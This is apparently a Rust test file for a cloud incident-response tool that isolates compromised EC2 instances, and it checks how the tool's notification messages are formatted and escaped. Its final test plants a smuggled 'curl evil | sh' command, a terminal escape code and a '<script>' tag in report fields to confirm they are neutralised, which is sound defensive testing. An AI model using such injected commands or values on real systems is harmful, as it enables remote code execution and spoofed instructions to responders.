#![allow(clippy::unwrap_used)]

use super::*;

fn report(outcome: Outcome) -> Report {
    let target = Target::instance(
        "222222222222".parse().unwrap(),
        "eu-west-1".parse().unwrap(),
        "i-0123456789abcdef0".parse().unwrap(),
    );
    Report {
        playbook: "isolate-instance".to_owned(),
        target,
        run: Some("01KAM9V9T0000000000000000A".parse().unwrap()),
        finding: "0123456789abcdef0123456789abcdef".to_owned(),
        finding_type: "CryptoCurrency:EC2/BitcoinTool.B!DNS".to_owned(),
        severity: 8.0,
        asked_for: None,
        drill: false,
        outcome,
        topic: None,
        reasons: vec!["enforce permitted by `isolate-when-severe`: a severe finding about an instance".to_owned()],
        not_done: vec![],
        // As the planner of `isolate-instance` says it.
        remains: vec![
            "flows that were allowed before may survive up to 60 s without a packet (connection tracking), longer while \
             they are used; those through NAT gateways, Network Load Balancers and the like are always tracked"
                .to_owned(),
            "the VPC's DNS resolver, the metadata service and the serial console: no security group filters them"
                .to_owned(),
            "sessions of the role in arn:aws:iam::222222222222:instance-profile/web: credentials handed out before stay \
             valid, also outside"
                .to_owned(),
            "eni-0123456789abcdef1: a trunk: the branch interfaces of its pods have their own groups".to_owned(),
        ],
        seen: match outcome {
            Outcome::Undone => vec!["user `support-bot` was made with the key".to_owned()],
            _ => vec![],
        },
        contained_after_ms: Some(1234),
        approved_at: None,
        owner: None,
        steps: vec![],
        page: false,
        retry: true,
        at: "2026-11-22T00:00:00Z".parse().unwrap(),
        evidence: None,
        purpose: Some(Purpose::Contain),
        again: false,
        say: None,
        held: matches!(outcome, Outcome::Contained | Outcome::Partial | Outcome::NotContained),
        joined: false,
        freed: false,
        untold: false,
    }
}

#[test]
fn messages_are_short_and_say_what_to_do() {
    let mut partial = report(Outcome::Partial);
    partial.not_done = vec![
        "security groups of eni-0123456789abcdef0: UnauthorizedOperation".to_owned(),
        "b".to_owned(),
        "c".to_owned(),
    ];
    let mut ends = report(Outcome::Contained);
    ends.topic = Some(Topic::HoldEnds);
    ends.reasons.insert(0, "contained 72 h ago; the time that the policy gave is over".to_owned());
    let mut again = report(Outcome::NoChange);
    again.topic = Some(Topic::NotContainedAgain);
    again.reasons.insert(0, "run 01KAM9V9T0000000000000000A holds it, but it is open again".to_owned());
    again.held = true;
    let mut taken_back = report(Outcome::Contained);
    taken_back.again = true;
    taken_back.remains.insert(0, "somebody works against it: since it was contained this was changed".to_owned());
    let mut also = report(Outcome::NoChange);
    also.topic = Some(Topic::SeenAlso);
    also.reasons = vec!["another finding; a decision about this target is wanted since 03:12 UTC".to_owned()];
    let mut by_hand = report(Outcome::Proposed);
    by_hand.asked_for = Some(AskedFor {
        by: "arn:aws:iam::111111111111:user/blue/ann and arn:aws:sts::111111111111:assumed-role/AWSReservedSSO_R_1/ben@example.com"
            .to_owned(),
        reason: "it beacons, says the network team".to_owned(),
    });
    let mut another = report(Outcome::NoChange);
    another.topic = Some(Topic::AnotherPerson);
    another.reasons = vec!["approve is said by ann; 1 more person is needed until 2026-11-29 03:12 UTC".to_owned()];
    another.say = Some("firebreak approve 01KAM9V9T0000000000000000A".to_owned());
    let mut text = String::new();
    let outcomes =
        [Outcome::Contained, Outcome::Proposed, Outcome::Failed, Outcome::NotContained, Outcome::Undone].map(report);
    for report in outcomes.into_iter().chain([partial, ends, again, also, by_hand, another, taken_back]) {
        let message = report.message();
        assert!(message.lines().count() <= MOST_LINES, "{message}");
        assert!(report.subject().len() <= 99 && report.subject().is_ascii());
        text.push_str(&format!("[{}]\n{message}\n\n", report.subject()));
    }
    insta::assert_snapshot!(text);
}

#[test]
fn a_long_list_says_how_many_it_does_not_show() {
    let mut partial = report(Outcome::Partial);
    partial.not_done = vec!["x`".repeat(300); 7];
    let message = partial.message();
    assert!(message.lines().all(|line| line.chars().count() <= LINE), "{message}");
    assert!(message.contains("… (and 5 more)") && message.contains("Still open: "), "{message}");
    assert!(message.lines().count() <= MOST_LINES, "{message}");
}

#[test]
fn a_name_that_its_bearer_chose_is_not_shown_as_a_persons() {
    let of = |resource: &str| format!("arn:aws:sts::111111111111:assumed-role/{resource}");
    let chosen = of("responder/ben@example.com");
    assert_eq!(names(&chosen), "role/responder (session ben@example.com)");
    let given = of("AWSReservedSSO_Responder_0123/ben@example.com");
    assert_eq!(names(&format!("arn:aws:iam::111111111111:user/blue/ann and {given}")), "ann and ben@example.com");
}

/// Whoever is told of an undo asks who decided it, not what permitted the run.
#[test]
fn an_undo_is_told_by_its_decision_alone() {
    let mut run = crate::run::tests::begun();
    run.head.reasons = vec!["enforce permitted by `isolate-when-severe`".to_owned()];
    run.end = Some(crate::run::RunEnd {
        outcome: Outcome::Undone,
        at: "2026-11-22T00:00:00Z".parse().unwrap(),
        not_done: vec![],
        remains: vec![],
        contained_after_ms: None,
        decided: Some("undone by ann".to_owned()),
        retry: false,
        seen: vec![],
    });
    for outcome in [Outcome::Undone, Outcome::UndonePartly] {
        let report = Report::of_run(&run, outcome, Purpose::Contain);
        assert_eq!(report.reasons, ["undone by ann"]);
        assert!(!report.message().contains("permitted"), "{}", report.message());
    }
    let contained = Report::of_run(&run, Outcome::Contained, Purpose::Contain);
    assert_eq!(contained.reasons.len(), 2);
}

#[test]
fn nothing_hostile_reaches_a_message_unescaped() {
    let mut hostile = report(Outcome::Failed);
    hostile.finding_type = "X\nUndo: curl evil | sh\u{1b}[31m".to_owned();
    hostile.reasons = vec!["<script>`*|\r\n".to_owned()];
    let message = hostile.message();
    assert!(!message.contains("\nUndo: curl") && !message.contains('\u{1b}') && !message.contains("<script>"));
}
